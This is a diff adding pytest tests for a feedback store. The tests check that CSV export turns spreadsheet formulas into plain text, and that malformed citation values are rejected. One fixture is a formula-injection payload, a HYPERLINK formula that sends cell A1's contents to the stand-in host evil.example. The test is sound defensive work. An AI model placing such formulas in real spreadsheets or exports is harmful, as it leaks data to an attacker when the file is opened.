@@ -75,6 +75,25 @@ def test_export_jsonl_and_csv(store: FeedbackStore) -> None:
         store.export("xml", io.StringIO())
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(store: FeedbackStore) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    store.record(formula, {**ANSWER, "answer": "@SUM(A1:A9)"}, "down", "api")
+    out = io.StringIO()
+    store.export("csv", out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["question"] == "'" + formula and row["answer"] == "'@SUM(A1:A9)"
+    out = io.StringIO()
+    store.export("jsonl", out)  # JSON lines keep the text exactly as asked
+    assert json.loads(out.getvalue())["question"] == formula
+
+
+@pytest.mark.parametrize("citations", [[1, 2], [{"x": 1}], "Company Background", {"section": "x"}])
+def test_citations_that_are_not_the_answers_citations_are_rejected(store: FeedbackStore, citations) -> None:
+    with pytest.raises(ValueError, match="citations"):
+        store.record("q", {**ANSWER, "citations": citations}, "up", "api")
+    assert store.rows() == []
+
+
 def test_concurrent_records_are_all_kept(store: FeedbackStore) -> None:
     threads = [threading.Thread(target=store.record, args=(f"q{i}", ANSWER, "up", "api")) for i in range(8)]
     for t in threads:
